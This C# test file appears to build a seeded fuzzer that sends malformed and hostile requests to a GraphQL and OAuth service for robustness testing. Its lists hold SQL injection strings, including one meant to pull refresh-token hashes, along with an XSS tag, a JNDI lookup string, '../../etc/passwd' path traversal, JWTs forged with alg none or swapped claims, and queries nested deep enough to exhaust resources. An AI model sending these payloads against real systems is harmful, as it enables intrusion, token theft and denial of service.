using System.Text;
using System.Text.Json;

namespace TokenIM.Tests.Security;

/// <summary>One generated request, kept as data so it can be described when it fails and rebuilt to send.</summary>
public sealed record HostileRequest(string Kind, HttpMethod Method, string Path, byte[]? Body, string? ContentType, IReadOnlyList<(string Name, string Value)> Headers)
{
    public HttpRequestMessage ToMessage()
    {
        var message = new HttpRequestMessage(Method, Path);
        if (Body is not null)
        {
            message.Content = new ByteArrayContent(Body);
            if (ContentType is not null) message.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
        }
        foreach (var (name, value) in Headers) message.Headers.TryAddWithoutValidation(name, value);
        return message;
    }

    public override string ToString()
    {
        var body = Body is null ? "" : Encoding.UTF8.GetString(Body.AsSpan(0, Math.Min(Body.Length, 300)));
        return $"[{Kind}] {Method} {Path} ({ContentType}; {string.Join(", ", Headers.Select(h => $"{h.Name}: {Truncate(h.Value)}"))}) {body}";
    }

    private static string Truncate(string value) => value.Length <= 80 ? value : value[..80] + "…";
}

/// <summary>
/// Makes bad requests of many kinds from a seeded random source, so a run is repeatable: malformed
/// and mistyped JSON, wrong media types and methods, hostile strings (control characters, huge,
/// SQL-looking, lone surrogates), forged and truncated ids, cursors and tokens, random bytes, and
/// broken queries derived from good ones.
/// </summary>
public sealed class HostileRequestGenerator(Random random, string accessToken, string userId, string refreshToken)
{
    private static readonly string[] Queries =
    [
        "{ me { id username displayName avatarUrl createdAt deleted } }",
        "query($id: ID!) { user(id: $id) { id username } }",
        "query($id: ID!) { node(id: $id) { id ... on User { username } } }",
        "query($s: String, $f: Int, $a: String) { users(search: $s, first: $f, after: $a) { nodes { id } pageInfo { endCursor hasNextPage } } }",
        "query($f: Int, $a: String) { auditEvents(first: $f, after: $a) { nodes { id action } } }",
        "mutation($u: String!, $p: String!, $d: String) { register(input: { username: $u, password: $p, displayName: $d }) { accessToken } }",
        "mutation($u: String!, $p: String!) { login(input: { username: $u, password: $p }) { accessToken } }",
        "mutation($t: String!) { refreshToken(input: { refreshToken: $t }) { accessToken } }",
        "mutation($t: String!) { logout(input: { refreshToken: $t }) { revoked } }",
        "mutation($d: String, $a: String) { updateProfile(input: { displayName: $d, avatarUrl: $a }) { user { id } } }",
        "mutation($c: String!, $n: String!) { changePassword(input: { currentPassword: $c, newPassword: $n }) { session { accessToken } } }",
        "{ __schema { types { name fields { name } } } }",
        "{ __typename }",
    ];

    private static readonly string[] VariableNames = ["id", "s", "f", "a", "u", "p", "d", "t", "c", "n"];

    private static readonly string[] SqlLike =
    [
        "' OR 1=1 --", "'; DROP TABLE Users; --", "\" OR \"\"=\"", "1; SELECT * FROM RefreshTokens", "admin'--",
        "%' AND 1=0 UNION SELECT TokenHash FROM RefreshTokens --", "\\'", "$where: '1 == 1'", "{\"$gt\": \"\"}",
    ];

    private static readonly string[] ContentTypes =
    [
        "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
        "application/json; charset=latin1", "application/graphql", "", "application/json; charset=\"", "*/*", "application/json;;;",
    ];

    private static readonly string[] Accepts =
    [
        "application/xml", "*/*;q=0", "application/json;q=abc", ";;;", "application/graphql-response+json;q=0, application/json;q=0",
        "text/html", new string('a', 5000),
    ];

    public HostileRequest Next() => random.Next(14) switch
    {
        12 => HostileEventStream(),
        13 => HostilePersistedOperation(),
        0 => MalformedJson(),
        1 => MistypedEnvelope(),
        2 => WrongMediaOrMethod(),
        3 => BrokenQuery(),
        4 or 5 => HostileVariables(),
        6 => ForgedToken(),
        7 => RandomBytes(),
        8 => HostileGet(),
        9 => HostileHeaders(),
        10 => HostileOAuth(),
        _ => DeepOrWide(),
    };

    private HostileRequest MalformedJson()
    {
        var good = Envelope(Pick(Queries), GoodVariables());
        string body = random.Next(6) switch
        {
            0 => good[..random.Next(good.Length)],
            1 => good.Insert(random.Next(good.Length), Pick(["{", "}", "[", "]", ",", ":", "\"", "\\", "\u0000", "NaN", "undefined"])),
            2 => "\uFEFF" + good,
            3 => "{\"query\": \"{ __typename }\", \"query\": " + good + "}",
            4 => Pick(["", " ", "null", "[]", "[{}]", "\"{ __typename }\"", "42", "true", "{", "{\"query\"}", "{'query': '{ __typename }'}"]),
            _ => new string('[', random.Next(60, 5000)) + new string(']', random.Next(0, 50)),
        };
        return Post("malformed-json", body, "application/json");
    }

    private HostileRequest MistypedEnvelope()
    {
        object?[] odd = [42, true, null, new[] { 1, 2 }, new { a = 1 }, "text", 1e308, -0.0, new string('x', 1000)];
        var envelope = new Dictionary<string, object?>
        {
            ["query"] = random.Next(3) == 0 ? Pick(odd) : Pick(Queries),
            ["variables"] = random.Next(2) == 0 ? Pick(odd) : GoodVariables(),
            ["operationName"] = random.Next(3) == 0 ? Pick(odd) : null,
            ["extensions"] = random.Next(3) == 0 ? Pick(odd) : null,
        };
        return Post("mistyped-envelope", JsonSerializer.Serialize(envelope), "application/json");
    }

    private HostileRequest WrongMediaOrMethod()
    {
        var body = Envelope(Pick(Queries), GoodVariables());
        if (random.Next(2) == 0)
            return new HostileRequest("wrong-media", HttpMethod.Post, GraphQLPath(), Encoding.UTF8.GetBytes(body), Pick(ContentTypes), []);
        var method = Pick([HttpMethod.Put, HttpMethod.Delete, HttpMethod.Patch, HttpMethod.Options, new HttpMethod("PROPFIND"), new HttpMethod("TRACE")]);
        return new HostileRequest("wrong-method", method, GraphQLPath(), Encoding.UTF8.GetBytes(body), "application/json", []);
    }

    private HostileRequest BrokenQuery()
    {
        var query = Pick(Queries);
        query = random.Next(5) switch
        {
            0 => query[..random.Next(query.Length)],
            1 => query.Insert(random.Next(query.Length), HostileString()),
            2 => query.Remove(random.Next(query.Length), 1),
            3 => new string(query.Select(c => random.Next(20) == 0 ? (char)random.Next(0, 0x3000) : c).ToArray()),
            _ => query.Replace("{", "{ " + HostileName() + " ", StringComparison.Ordinal),
        };
        return Post("broken-query", Envelope(query, GoodVariables()), "application/json");
    }

    private HostileRequest HostileVariables()
    {
        var variables = VariableNames.ToDictionary(n => n, _ => HostileValue());
        return Post("hostile-variables", Envelope(Pick(Queries), variables), "application/json", AuthHeader(random.Next(2) == 0 ? accessToken : null));
    }

    private HostileRequest ForgedToken()
    {
        var parts = accessToken.Split('.');
        var token = random.Next(8) switch
        {
            0 => accessToken[..random.Next(accessToken.Length)],
            1 => parts[0] + "." + parts[1] + "." + new string(parts[2].Reverse().ToArray()),
            2 => Base64Url("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + parts[1] + ".",
            3 => Base64Url("{\"alg\":\"HS256\"}") + "." + Base64Url("{\"sub\":\"1\",\"sid\":\"x\",\"iss\":\"tokenim\",\"aud\":\"tokenim\",\"exp\":9999999999}") + "." + parts[2],
            4 => parts[0] + "." + Base64Url("{\"sub\":\"client:1\",\"client_id\":\"1\",\"scope\":\"notifications:send\"}") + "." + parts[2],
            5 => HostileString(),
            6 => string.Join(".", Enumerable.Range(0, random.Next(1, 8)).Select(_ => Base64Url(HostileString()))),
            _ => refreshToken,
        };
        var scheme = Pick(["Bearer ", "bearer ", "Basic ", "Bearer", "", "Token ", "Bearer  "]);
        return Post("forged-token", Envelope("{ me { id } }", null), "application/json", [("Authorization", scheme + token)]);
    }

    private HostileRequest RandomBytes()
    {
        var bytes = new byte[random.Next(0, 4096)];
        random.NextBytes(bytes);
        return new HostileRequest("random-bytes", HttpMethod.Post, Pick([GraphQLPath(), "/oauth/token"]), bytes,
            Pick(["application/json", "application/x-www-form-urlencoded", "application/octet-stream"]), []);
    }

    private HostileRequest HostileGet()
    {
        string Escape(string s) => Uri.EscapeDataString(s.Length > 2000 ? s[..2000] : s);
        var query = random.Next(6) switch
        {
            0 => "query=" + Escape(Pick(Queries)) + "&variables=" + Escape(HostileString()),
            1 => "query=" + Escape(Pick(Queries)) + "&query=" + Escape(Pick(Queries)),
            2 => "query=" + Escape("mutation { logout(input: { refreshToken: \"x\" }) { revoked } }"),
            3 => "variables=" + Escape("{}"),
            4 => "query=" + Escape(HostileString()) + "&operationName=" + Escape(HostileString()) + "&extensions=" + Escape("[1]"),
            _ => "query=%ZZ&%%%=1&variables=%7B",
        };
        return new HostileRequest("hostile-get", HttpMethod.Get, GraphQLPath() + "?" + query, null, null, []);
    }

    private HostileRequest HostileHeaders()
    {
        List<(string, string)> headers = [];
        if (random.Next(2) == 0) headers.Add(("Accept", Pick(Accepts)));
        if (random.Next(2) == 0) headers.Add(("X-Api-Version", Pick(["2", "0", "1, 2", "", "v1", new string('9', 300), "1\u0000"])));
        if (random.Next(3) == 0) headers.Add(("Authorization", "Bearer " + accessToken));
        if (random.Next(3) == 0) headers.Add(("Authorization", "Bearer " + accessToken[..^3]));
        if (headers.Count == 0) headers.Add(("Content-Encoding", "gzip"));
        return Post("hostile-headers", Envelope(Pick(Queries), GoodVariables()), "application/json", headers);
    }

    private HostileRequest HostileOAuth()
    {
        var pairs = Enumerable.Range(0, random.Next(0, 8))
            .Select(_ => (Key: Pick(["grant_type", "username", "password", "refresh_token", "client_id", "client_secret", "scope", HostileName()]),
                Value: random.Next(3) == 0 ? Pick(["password", "refresh_token", "client_credentials", "authorization_code"]) : HostileString()))
            .ToList();
        var body = string.Join("&", pairs.Select(p => Uri.EscapeDataString(p.Key) + "=" + Uri.EscapeDataString(p.Value.Length > 3000 ? p.Value[..3000] : p.Value)));
        if (random.Next(5) == 0) body += "&%ZZ=%&&=";
        List<(string, string)> headers = random.Next(3) == 0 ? [("Authorization", "Basic " + Pick([Base64(HostileString()), "%%%", "", Base64("notifier"), Base64(":")]))] : [];
        var method = random.Next(8) == 0 ? HttpMethod.Put : HttpMethod.Post;
        return new HostileRequest("hostile-oauth", method, "/oauth/token", Encoding.UTF8.GetBytes(body),
            random.Next(6) == 0 ? Pick(ContentTypes) : "application/x-www-form-urlencoded", headers);
    }

    /// <summary>
    /// GraphQL over Server-Sent Events: broken requests that ask for a stream (answered in the stream),
    /// and tokens that name no reservation on every method of single connection mode. No subscriptions:
    /// a stream that is fine would stay open.
    /// </summary>
    private HostileRequest HostileEventStream()
    {
        List<(string, string)> accept = [("Accept", Pick(["text/event-stream", "text/event-stream;q=0.9, application/json;q=0.1", "text/event-stream;q=abc"]))];
        List<(string, string)> token = [("X-GraphQL-Event-Stream-Token", Pick(["", "x", new string('a', 5000), "%00", "../../etc/passwd", Base64Url(HostileString())]))];
        switch (random.Next(5))
        {
            case 0:
                var inner = random.Next(2) == 0 ? MalformedJson() : MistypedEnvelope();
                return inner with { Kind = "event-stream-" + inner.Kind, Headers = [.. inner.Headers, .. accept, .. AuthHeader(random.Next(2) == 0 ? accessToken : null)] };
            case 1:
                var get = HostileGet();
                return get with { Kind = "event-stream-get", Headers = [.. get.Headers, .. accept] };
            case 2:
                return new HostileRequest("event-stream-put", HttpMethod.Put, GraphQLPath(), random.Next(2) == 0 ? null : Encoding.UTF8.GetBytes(HostileString()),
                    Pick(ContentTypes), AuthHeader(Pick<string?>([accessToken, null, "forged." + Base64Url(HostileString())])));
            default:
                var method = Pick([HttpMethod.Get, HttpMethod.Post, HttpMethod.Delete, HttpMethod.Patch]);
                var query = random.Next(2) == 0 ? "?operationId=" + Uri.EscapeDataString(HostileString()) : "?token=" + Uri.EscapeDataString(HostileString());
                return new HostileRequest("event-stream-token", method, GraphQLPath() + query, Encoding.UTF8.GetBytes(Envelope(Pick(Queries), GoodVariables())),
                    "application/json", [.. token, .. accept]);
        }
    }

    /// <summary>Persisted operations: hashes, versions and document ids of every wrong shape, by POST and by GET.</summary>
    private HostileRequest HostilePersistedOperation()
    {
        object?[] hashes = [HostileString(), "", new string('f', 64), new string('F', 64), new string('0', 63), new string('g', 64), 42, null, true, new[] { 1 }];
        object?[] versions = [1, 2, 0, -1, "1", 1.5, null, 1e308];
        var persistedQuery = random.Next(6) switch
        {
            0 => (object?)HostileString(),
            1 => null,
            2 => new[] { 1, 2 },
            _ => new Dictionary<string, object?> { ["version"] = Pick(versions), ["sha256Hash"] = Pick(hashes) },
        };
        var envelope = new Dictionary<string, object?> { ["extensions"] = new Dictionary<string, object?> { ["persistedQuery"] = persistedQuery } };
        if (random.Next(3) == 0) envelope["query"] = Pick(Queries);
        if (random.Next(4) == 0) envelope[Pick(["doc_id", "documentId"])] = Pick<object?>([HostileString(), "sha256:" + new string('a', 64), "sha256:", 42, null, ""]);
        if (random.Next(3) == 0) envelope["variables"] = GoodVariables();
        var json = JsonSerializer.Serialize(envelope);
        if (random.Next(3) == 0)
        {
            var query = string.Join("&", envelope.Select(kv => Uri.EscapeDataString(kv.Key) + "=" +
                Uri.EscapeDataString(kv.Value is string text ? text : JsonSerializer.Serialize(kv.Value))));
            return new HostileRequest("hostile-persisted-get", HttpMethod.Get, GraphQLPath() + "?" + query, null, null, AuthHeader(random.Next(2) == 0 ? accessToken : null));
        }
        return Post("hostile-persisted", json, "application/json", AuthHeader(random.Next(2) == 0 ? accessToken : null));
    }

    private HostileRequest DeepOrWide()
    {
        var n = random.Next(10, 3000);
        var query = random.Next(6) switch
        {
            0 => "{ me " + string.Concat(Enumerable.Repeat("{ id ", n)) + new string('}', n + 1),
            1 => "{ " + string.Join(" ", Enumerable.Range(0, n).Select(i => $"a{i}: me {{ id }}")) + " }",
            2 => "{ me { ...F } } " + string.Join(" ", Enumerable.Range(0, Math.Min(n, 300)).Select(i => $"fragment F{(i == 0 ? "" : i.ToString())} on User {{ ...F{i + 1} }}")),
            3 => "{ users(first: " + Pick(["2147483647", "-2147483648", "99999999999", "1e3", "0x10", "null", "\"10\""]) + ") { nodes { id } } }",
            4 => "query(" + string.Join(",", Enumerable.Range(0, n).Select(i => $"$v{i}: [[[[Int]]]]")) + ") { __typename }",
            _ => "{ __schema { types { fields { type { " + string.Concat(Enumerable.Repeat("ofType { fields { type { ", Math.Min(n, 40))) + "name" + new string('}', Math.Min(n, 40) * 3 + 5) + " }",
        };
        return Post("deep-or-wide", Envelope(query, null), "application/json", AuthHeader(random.Next(2) == 0 ? accessToken : null));
    }

    private Dictionary<string, object?> GoodVariables() => new()
    {
        ["id"] = userId, ["s"] = "a", ["f"] = 5, ["a"] = null, ["u"] = "someone", ["p"] = "password123", ["d"] = "Someone", ["t"] = refreshToken,
        ["c"] = "not-the-password", ["n"] = "new-password-1",
    };

    private object? HostileValue() => random.Next(12) switch
    {
        0 => HostileString(),
        1 => Pick(SqlLike),
        2 => ForgedId(),
        3 => Pick<object?>([int.MaxValue, int.MinValue, long.MaxValue, -1, 0, 1e308, -1e-308, 0.5]),
        4 => new[] { HostileString(), HostileString() },
        5 => new Dictionary<string, object?> { [HostileName()] = HostileString() },
        6 => null,
        7 => random.Next(2) == 0,
        // Now and then one big enough, with the JSON escaping of some of these, to pass the body limit.
        8 => new string(Pick(['x', '\u0000', '\u202E', '\uFFFF', 'é']), random.Next(20) == 0 ? random.Next(100_000, 400_000) : random.Next(1000, 5000)),
        9 => Base64Url(HostileString()),
        10 => Pick([accessToken, refreshToken, refreshToken[..^2], accessToken[..^5]]),
        _ => userId,
    };

    private string ForgedId() => Pick(
    [
        Base64Url("User:-1"), Base64Url("User:0"), Base64Url("User:99999999999999999999"), Base64Url("User:1 OR 1=1"), Base64Url("User:"),
        Base64Url(":1"), Base64Url("Nope:1"), Base64Url("AuditEvent:1"), Base64Url("User:1\u0000"), userId[..^1], userId + "=", userId + "==",
        "VXNlcjox!", "", " ", new string('A', 65), Base64Url(new string('U', 200) + ":1"), "%00", "../../etc/passwd",
    ]);

    private string HostileString() => random.Next(10) switch
    {
        0 => new string(Enumerable.Range(0, random.Next(1, 64)).Select(_ => (char)random.Next(0, 32)).ToArray()),
        1 => "\ud800" + "a" + "\udc00\ud800",
        2 => Pick(SqlLike),
        3 => new string('x', random.Next(1000, 20_000)),
        4 => "<script>alert(1)</script>",
        5 => "\u202Eevil\u200B\u200D\uFEFF",
        6 => "${jndi:ldap://example.invalid/a}",
        7 => string.Concat(Enumerable.Range(0, random.Next(1, 50)).Select(_ => (char)random.Next(32, 0xD7FF))),
        8 => "null",
        _ => "%s%s%n%x{0}{1}\\u0000",
    };

    private string HostileName() => Pick(["__proto__", "constructor", "a" + new string('b', 300), "__schema", "_", "é", "0abc", "$x", "@include"]);

    private static string Envelope(string query, Dictionary<string, object?>? variables) =>
        JsonSerializer.Serialize(new { query, variables });

    /// <summary>
    /// A GraphQL multipart request (an upload) broken in one of many ways: truncated, with junk inserted, parts out of
    /// order or repeated, hostile JSON in operations or map, hostile paths, names and part headers, a missing or odd
    /// boundary or preflight header. Separate from <see cref="Next"/> so that sequence stays what it was.
    /// </summary>
    public HostileRequest NextMultipart()
    {
        const string boundary = "hostile-boundary";
        var variables = GoodVariables();
        variables["file"] = null;
        var operations = random.Next(4) == 0 ? Pick(MalformedBodies()) : Envelope(Pick(Queries), variables);
        var map = random.Next(4) switch
        {
            0 => Pick(MalformedBodies()),
            1 => JsonSerializer.Serialize(new Dictionary<string, string[]> { [HostileString()] = [Pick(HostilePaths())] }),
            2 => JsonSerializer.Serialize(new Dictionary<string, object?> { ["0"] = Pick<object?>([HostilePaths(), Pick(HostilePaths()), 42, null, new { } ]) }),
            _ => """{"0":["variables.file"]}""",
        };
        string Part(string name, string content, string? fileName = null, string? type = null) =>
            $"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"{(fileName is null ? "" : $"; filename=\"{fileName}\"")}\r\n"
            + (type is null ? "" : $"Content-Type: {type}\r\n") + "\r\n" + content + "\r\n";
        var parts = new List<string>
        {
            Part("operations", operations),
            Part("map", map),
            Part(random.Next(5) == 0 ? HostileString() : "0", random.Next(3) == 0 ? HostileString() : "file content",
                random.Next(4) == 0 ? HostileString() : "a.txt", random.Next(4) == 0 ? HostileString() : "text/plain"),
        };
        switch (random.Next(6))
        {
            case 0: parts.Reverse(); break;
            case 1: parts.Add(parts[random.Next(parts.Count)]); break;
            case 2: parts.RemoveAt(random.Next(parts.Count)); break;
            case 3: parts.Insert(random.Next(parts.Count + 1), $"--{boundary}\r\n{HostileString()}\r\n\r\nx\r\n"); break;
        }
        var body = string.Concat(parts) + (random.Next(4) == 0 ? "" : $"--{boundary}--\r\n");
        body = random.Next(4) switch
        {
            0 => body[..random.Next(body.Length)],
            1 => body.Insert(random.Next(body.Length), Pick(["\r\n", "--", $"--{boundary}", "\r\n\r\n", "\u0000", HostileString()])),
            _ => body,
        };
        var contentType = random.Next(6) switch
        {
            0 => Pick(["multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=\"", "multipart/form-data; boundary=other",
                "multipart/form-data; boundary=" + new string('b', 200), "multipart/mixed; boundary=" + boundary]),
            _ => "multipart/form-data; boundary=" + boundary,
        };
        List<(string, string)> headers = [.. AuthHeader(Pick<string?>([accessToken, null])),
            .. random.Next(10) == 0 ? [] : new[] { (Pick(["GraphQL-Preflight", "Apollo-Require-Preflight", "X-Apollo-Operation-Name"]), random.Next(8) switch { 0 => " ", 1 => HostileString(), _ => "1" }) }];
        return Post("multipart", body, contentType, headers);
    }

    private string[] HostilePaths() =>
    [
        "variables.file", "variables", "variables.", ".", "", "variables.file.0", "variables.id", "variables.a", "variables.__proto__",
        "variables.a.0.b", "variables.file.99999999999999999999", "0.variables.file", "query", "extensions.x", HostileString(),
    ];

    private string[] MalformedBodies() =>
        ["", " ", "null", "[]", "[{}]", "42", "{", "{\"query\"}", "[{\"query\":\"{ __typename }\"}]", new string('[', 5000), HostileString()];

    private HostileRequest Post(string kind, string body, string contentType, IReadOnlyList<(string, string)>? headers = null) =>
        new(kind, HttpMethod.Post, GraphQLPath(), Encoding.UTF8.GetBytes(body), contentType, headers ?? []);

    private static List<(string, string)> AuthHeader(string? token) => token is null ? [] : [("Authorization", "Bearer " + token)];

    private string GraphQLPath() => random.Next(5) == 0 ? "/v1/graphql" : "/graphql";

    private T Pick<T>(IReadOnlyList<T> choices) => choices[random.Next(choices.Count)];

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Base64Url(string text) => Base64(text).TrimEnd('=').Replace('+', '-').Replace('/', '_');
}
